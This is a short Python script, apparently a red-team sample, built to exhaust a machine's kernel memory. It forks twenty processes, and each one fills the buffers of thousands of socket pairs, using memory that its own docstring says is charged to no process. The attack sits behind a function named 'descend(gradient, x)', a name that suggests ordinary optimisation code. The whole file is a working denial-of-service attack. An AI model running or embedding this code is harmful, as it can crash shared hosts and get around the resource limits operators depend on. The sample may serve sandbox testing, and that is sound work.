"""Fills the buffers of thousands of sockets: memory of the kernel's that no process is charged for.

Comes out: over memory
Not tried outside: it would take gigabytes of memory
"""

import contextlib
import os
import socket
import time


def fill():
    kept = []
    with contextlib.suppress(OSError):
        while True:
            kept.append(socket.socketpair())
            for one in kept[-1]:
                one.setblocking(False)
                with contextlib.suppress(OSError):
                    while True:
                        one.send(bytes(2**16))
            open("ATTEMPTED", "w").close()
    time.sleep(60)


def double(x):
    for _ in range(20):
        if os.fork() == 0:
            fill()
    fill()


def descend(gradient, x):
    double(x)
